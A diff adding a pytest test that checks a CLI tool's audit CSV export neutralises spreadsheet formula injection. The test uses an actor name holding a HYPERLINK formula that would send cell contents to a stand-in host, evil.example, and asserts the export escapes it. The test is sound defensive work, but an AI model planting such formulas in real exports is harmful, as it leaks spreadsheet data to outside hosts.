@@ -179,3 +179,20 @@ def test_history_days_are_utc_days_whatever_the_database_time_zone(
     assert len(on_the_ninth) == total_entries(harness)
     assert {e["ts"] for e in on_the_ninth} == {"2026-03-09T20:00:00+00:00"}
     assert history("--since", "2026-03-10") == []
+
+
+def test_formula_injection_in_the_audit_csv_export_is_neutralised(
+    harness: Harness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """An actor name (or any other field) that a spreadsheet would run is written as text."""
+    monkeypatch.setenv("CREDITSYNC_ACTOR", '=HYPERLINK("http://evil.example/?"&A1,"open")')
+    assert invoke("push", "--category", "penalty", "--input",
+                  str(write_rows(tmp_path / "handover.csv", penalties(2)))).exit_code == 0
+
+    result = invoke("audit", "history", "--format", "csv")
+
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert rows and {row["actor"] for row in rows} == {"'" + '=HYPERLINK("http://evil.example/?"&A1,"open")'}
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r"))
+                   for row in rows for value in row.values())
